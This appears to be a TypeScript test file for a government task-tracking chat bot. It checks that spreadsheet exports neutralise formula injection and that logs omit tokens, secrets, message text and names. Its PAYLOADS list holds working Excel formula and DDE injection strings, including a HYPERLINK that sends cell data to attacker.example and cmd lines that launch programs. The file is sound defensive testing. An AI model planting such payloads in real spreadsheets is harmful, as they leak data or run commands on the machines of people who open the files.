// What leaves the program besides chat messages: spreadsheets and logs.
// Spreadsheets: no cell an attacker typed can become a formula.
// Logs: no bot token or webhook secret, ever; at the default level (info) no
// message text and no personal name.
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { scorecard } from '../../src/app/commitments/scorecard.ts';
import { scorecardToXlsx } from '../../src/app/commitments/scorecard-format.ts';
import { reportToXlsx } from '../../src/app/report/format-xlsx.ts';
import { buildReport } from '../../src/app/report.service.ts';
import { createLogger, registerSecret } from '../../src/log.ts';
import {
  HEADER,
  NOW,
  SECRET,
  startWebhookTarget,
  telegramText,
  TG_TOKEN,
  TG_USER,
  ZALO_USER,
  zaloWebhookText,
  type WebhookTarget,
} from '../channels/helpers/webhook-target.ts';
import { bindGroup, rowCount } from '../app/chat/helpers.ts';
import { testDb } from '../helpers/db.ts';

const ZONE = 'Asia/Ho_Chi_Minh';

/** Formula and DDE payloads as they are known to work in Excel and LibreOffice. */
const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

async function cellsOf(buf: Buffer): Promise<{ sheet: string; address: string; type: ExcelJS.ValueType; formula?: string; text: string }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as never);
  const out: { sheet: string; address: string; type: ExcelJS.ValueType; formula?: string; text: string }[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        out.push({ sheet: ws.name, address: c.address, type: c.type, ...(c.formula ? { formula: c.formula } : {}), text: typeof c.value === 'string' ? c.value : String(c.text ?? '') });
      }),
    ),
  );
  return out;
}

function expectNoFormula(cells: Awaited<ReturnType<typeof cellsOf>>): void {
  expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([]);
  expect(cells.filter((c) => c.type === ExcelJS.ValueType.String && DANGEROUS_START.test(c.text))).toEqual([]);
}

describe('exports: formula injection is neutralised', () => {
  /** Units, tasks and a commitment whose every free-text field is a payload. */
  async function hostileOffice() {
    const db = await testDb();
    const { units, tasks, commitments, commitmentTargets, targetValues } = db.t;
    const p = (i: number) => PAYLOADS[i % PAYLOADS.length]!;
    await db.orm.insert(units).values([
      { id: 1, code: 'TINH', name: 'UBND tỉnh', path: '/1/' },
      { id: 2, code: '=XA1', name: p(0), parentId: 1, path: '/1/2/' },
      { id: 3, code: '+XA2', name: p(1), parentId: 1, path: '/1/3/' },
    ]);
    const t0 = Date.UTC(2026, 0, 5);
    await db.orm.insert(tasks).values(
      PAYLOADS.map((payload, i) => ({
        code: `-NV-${i}`,
        title: payload,
        unitId: 2 + (i % 2),
        assignedBy: p(i + 1),
        sourceDoc: p(i + 2),
        assignedAt: t0,
        deadline: t0 + 86_400_000,
        effectiveDeadline: t0 + 2 * 86_400_000,
        completedAt: t0 + 5 * 86_400_000,
        lateReason: p(i + 3),
        createdAt: t0,
        updatedAt: t0,
      })),
    );
    await db.orm.insert(commitments).values({ id: 1, unitId: 2, year: 2026, docRef: '=1+1' });
    const targets = await db.orm
      .insert(commitmentTargets)
      .values(PAYLOADS.map((payload, i) => ({ commitmentId: 1, code: `@CT${i}`, indicator: payload, comparator: '>=' as const, target: 90, measure: p(i + 1) })))
      .returning({ id: commitmentTargets.id });
    await db.orm.insert(targetValues).values({ targetId: targets[0]!.id, value: -5, measuredAt: t0 });
    return db;
  }

  it('the deadline report (.xlsx): every payload is there, as text, none as a formula', async () => {
    const db = await hostileOffice();
    const r = await buildReport(db, { asOf: Date.UTC(2026, 5, 30) }, ZONE);
    const cells = await cellsOf(await reportToXlsx(db, r, ZONE));
    expectNoFormula(cells);
    // XML turns a stored CR into LF when read back; the apostrophe in front is what matters.
    const texts = cells.map((c) => c.text.replace(/\n/g, '\r'));
    for (const payload of PAYLOADS) expect(texts).toContain(`'${payload}`);
    expect(texts).toContain("'=XA1");
    expect(texts).toContain("'-NV-0");
  });

  it('the commitments scorecard (.xlsx) likewise; a negative number stays a number', async () => {
    const db = await hostileOffice();
    const card = await scorecard(db, { year: 2026, asOf: Date.UTC(2026, 11, 31), zone: ZONE });
    const cells = await cellsOf(await scorecardToXlsx(card, ZONE));
    expectNoFormula(cells);
    const texts = cells.map((c) => c.text.replace(/\n/g, '\r'));
    for (const payload of PAYLOADS) expect(texts).toContain(`'${payload}`);
    expect(texts).toContain("'@CT0");
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Number && c.text === '-5')).toBe(true);
  });
});

describe('logs', () => {
  let t: WebhookTarget | undefined;
  afterEach(async () => {
    await t?.stop();
    t = undefined;
  });

  it('a secret or token inside a logged object is hidden too, not only in the message string', () => {
    const lines: string[] = [];
    const log = createLogger('debug', { write: (s: string) => void lines.push(s) });
    registerSecret('object-field-secret-123');
    log.info({ url: 'https://x.example/hook/object-field-secret-123', nested: { err: 'GET /bot42:object-field-secret-123/getMe' } }, 'listening');
    log.error(new Error('failed with object-field-secret-123'));
    const out = lines.join('');
    expect(out).not.toContain('object-field-secret-123');
    expect(out).toContain('https://x.example/hook/***');
  });

  it('webhook mode with the secret and the token in the URL paths (a common set-up): neither appears in the logs', async () => {
    t = await startWebhookTarget({
      telegramWebhookUrl: `https://bot.example.gov.vn/tg/${TG_TOKEN}`,
      zaloWebhookUrl: `https://bot.example.gov.vn/zalo/${SECRET.zalo}`,
    });
    expect((await t.post('telegram', { [HEADER.telegram]: SECRET.telegram }, telegramText(1, '/viec'))).status).toBe(200);
    expect((await t.post('telegram', { [HEADER.telegram]: SECRET.zalo }, telegramText(2, '/viec'))).status).toBe(401);
    expect((await t.post('zalo', { [HEADER.zalo]: SECRET.zalo }, '{not json')).status).toBe(400);
    t.zalo.override('sendMessage', 500, { ok: false, error_code: 500, description: `internal error for bot ${t.zalo.token}` });
    expect((await t.post('zalo', { [HEADER.zalo]: SECRET.zalo }, zaloWebhookText('z-1', '/viec'))).status).toBe(200);
    await t.idle();
    const logs = t.logs();
    expect(logs).toContain('web server listening');
    expect(logs).toContain('reply not sent');
    for (const secret of [TG_TOKEN, TG_TOKEN.split(':')[1]!, t.zalo.token, t.zalo.token.split(':')[1]!, SECRET.telegram, SECRET.zalo]) {
      expect(logs).not.toContain(secret);
    }
  });

  it('at the default level (info): a completion, a late completion with its reason and the reminders leave no message text and no name in the logs', async () => {
    t = await startWebhookTarget({
      logLevel: 'info',
      scheduler: true,
      seed: async (db) => {
        await bindGroup(db, { channel: 'zalo', chatId: 'g-xa-an', unitCode: 'XA-AN', createdAt: NOW });
        await bindGroup(db, { channel: 'telegram', chatId: '-100500', unitCode: 'XA-SON', createdAt: NOW });
        await bindGroup(db, { channel: 'telegram', chatId: '-100900', leadership: true, createdAt: NOW });
      },
    });
    const tgText = '/xong NV-10 Đã nộp báo cáo số 15/BC-UBND cho Sở Tư pháp';
    const zaloText = '/xong NV-12 lý do: chờ ý kiến bằng văn bản của Sở Tài nguyên';
    expect((await t.post('telegram', { [HEADER.telegram]: SECRET.telegram }, telegramText(11, tgText))).status).toBe(200);
    expect((await t.post('zalo', { [HEADER.zalo]: SECRET.zalo }, zaloWebhookText('z-11', zaloText))).status).toBe(200);
    await t.idle();
    // The first tick runs at start; wait for its reminders to go out.
    await t.zalo.waitSent(2, 10_000);
    const dueUnsent = () => rowCount(t!.db(), 'outbox', sql`status = 'pending' AND not_before <= ${t!.now()}`);
    for (const deadline = Date.now() + 10_000; Date.now() < deadline && (await dueUnsent()) > 0; ) await new Promise((r) => setTimeout(r, 50));
    expect(await dueUnsent()).toBe(0);
    const db = t.db();
    const sentReminders = await db.all<{ text: string }>(sql`SELECT text FROM outbox WHERE status = 'sent'`);
    expect(sentReminders.length).toBeGreaterThan(0);
    expect((await db.one<{ completed_at: number }>(sql`SELECT completed_at FROM tasks WHERE code = 'NV-10'`))!.completed_at).toBeGreaterThanOrEqual(NOW);
    expect(await db.one(sql`SELECT late_reason FROM tasks WHERE code = 'NV-12'`)).toEqual({ late_reason: 'chờ ý kiến bằng văn bản của Sở Tài nguyên' });

    const logs = t.logs();
    expect(logs).toContain('"level":"info"');
    const names = (await db.all<{ full_name: string }>(sql`SELECT full_name FROM officers`)).map((o) => o.full_name);
    const titles = (await db.all<{ title: string }>(sql`SELECT title FROM tasks`)).map((o) => o.title);
    const replies = [...t.telegramReplies(TG_USER), ...t.zalo.sent.map((s) => s.text)];
    expect(replies.length).toBeGreaterThanOrEqual(2);
    const forbidden = [
      tgText,
      'Đã nộp báo cáo số 15/BC-UBND',
      zaloText,
      'chờ ý kiến bằng văn bản của Sở Tài nguyên',
      ...names,
      ...titles,
      ...replies,
      ...sentReminders.map((r) => r.text),
      'Hoa',
      'Thu',
    ];
    for (const s of forbidden) expect(logs, s).not.toContain(s);
    expect(t.zalo.sent.some((s) => s.chat_id === ZALO_USER)).toBe(true);
  }, 40_000);
});
